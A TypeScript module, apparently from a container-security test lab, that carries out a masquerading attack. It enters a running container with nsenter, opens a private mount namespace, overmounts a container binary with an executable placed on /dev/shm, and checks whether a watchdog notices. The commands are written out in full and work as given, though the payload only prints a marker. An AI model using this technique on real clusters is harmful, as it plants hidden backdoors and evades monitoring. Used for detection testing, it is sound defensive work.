/**
 * Attack (T1564 Hide Artifacts, T1036.005 Masquerading): root on the node
 * enters a running container (nsenter into all its namespaces), leaves its
 * mount namespace for a private copy (unshare -m), mounts its own
 * executable over the container's binary there, and runs it by the
 * binary's path. The replacement runs as a process of the container, yet
 * the container's init, whose mountinfo a watchdog reads, sees nothing:
 * the overmount exists only in the second namespace.
 *
 * The attacker's executable prints the payload and stays (a backdoor
 * would), so the namespace lives until the container stops. The tools are
 * the image's own busybox (`unshare`, `mount`, `sh`) once inside; the fresh
 * tmpfs that carries the executable is the attacker's, so the start gate's
 * noexec on the container's writable mounts does not apply to it.
 *
 * Effect: the process run by the binary's path printed the payload.
 */
import { LabError } from '../../errors.ts';
import { poll } from '../../wait.ts';
import { awaitWatchdogAlerts, watchdogGraceMs } from '../../watchdog/index.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { attackerRuns, mountinfoOf, targetOf } from './overmount.ts';

const WORK = '/var/lib/integrity-lab/attacker';

/** The script run inside the container's namespaces, after unshare -m: its own tmpfs (on /dev/shm, a mount point every container has), the bind, the exec. */
export const PRIVATE_OVERMOUNT_SCRIPT = 'mount -t tmpfs tmpfs /dev/shm && cat > /dev/shm/.agent && chmod 755 /dev/shm/.agent && mount --bind /dev/shm/.agent "$1" && exec "$1"';

export const overmountPrivateNamespace: Technique = {
  name: 'overmount-private-namespace',
  async run(ctx) {
    const { node, attack, workload } = ctx;
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    if (/["\\$`\n]/.test(payload)) throw new LabError<AttackErrorCode>('ATTACK_SPEC_INCOMPLETE', `attack "${attack.metadata.name}": spec.payload is printed by a shell script and must not contain quotes, backslashes, $, backticks or newlines, got ${JSON.stringify(payload)}`);
    const target = await targetOf(ctx);
    const mark = `${target.containerId.slice(0, 12)}-${Date.now()}`;
    const script = `${WORK}/${mark}.sh`;
    const out = `${WORK}/${mark}.out`;
    await attackerRuns(node, ['sh', '-c', `mkdir -p ${WORK} && cat > ${script}`], Buffer.from(`#!/bin/sh\necho "${payload}"\nexec sleep 600\n`));
    const mountinfoBefore = await mountinfoOf(node, target.pid);
    const inner = ['nsenter', '-t', String(target.pid), '-a', '/bin/busybox', 'unshare', '-m', '--propagation', 'private', '/bin/busybox', 'sh', '-c', PRIVATE_OVERMOUNT_SCRIPT, 'sh', path];
    const command = ['sh', '-c', `setsid ${inner.map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ')} <${script} >${out} 2>&1 &`];
    const since = new Date();
    await attackerRuns(node, command);
    const ran = await poll(async () => (await node.exec.run(['cat', out])).stdout.toString(), (text) => text.includes(payload), { timeoutMs: 10_000, intervalMs: 100 });
    const output = ran.value ?? '';
    const mountinfoAfter = await mountinfoOf(node, target.pid);
    const alerts = await awaitWatchdogAlerts(node, {
      since: new Date(since.getTime() - 1000),
      timeoutMs: watchdogGraceMs(node, 'second-namespace', workload.spec.namespace),
      predicate: (a) => a.container === target.containerId,
    });
    const hidden = !mountinfoAfter.includes(` ${path} `);
    const effect = ran.ok;
    return {
      effect,
      reason: effect
        ? `the attacker's executable, mounted over ${path} in a second mount namespace of ${target.pod.namespace}/${target.pod.name}, ran by that path and printed "${payload}"; the init's mountinfo ${hidden ? 'does not show the overmount' : 'shows it too'}`
        : `the attacker's executable did not run by ${path} in ${target.pod.namespace}/${target.pod.name}: ${output.trim() || 'no output'}`,
      evidence: {
        container: target.containerId,
        pid: target.pid,
        command: command.join(' '),
        path,
        output,
        hiddenFromInit: hidden,
        mountinfoBefore,
        containerMountinfo: mountinfoAfter,
        watchdogAlerts: alerts,
      },
    };
  },
};
